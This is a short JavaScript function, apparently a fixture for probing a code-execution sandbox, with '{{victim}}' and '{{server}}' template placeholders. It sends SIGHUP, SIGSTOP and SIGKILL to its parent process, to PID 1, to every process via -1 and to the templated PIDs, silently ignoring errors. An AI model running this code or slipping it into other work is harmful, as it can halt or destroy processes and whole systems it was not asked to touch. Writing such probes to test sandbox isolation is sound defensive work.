export const f = () => {
  for (const target of [process.ppid, 1, -1, Number('{{victim}}'), Number('{{server}}')]) {
    for (const signal of ['SIGHUP', 'SIGSTOP', 'SIGKILL']) {
      try {
        process.kill(target, signal);
      } catch {}
    }
  }
  return 'done';
};
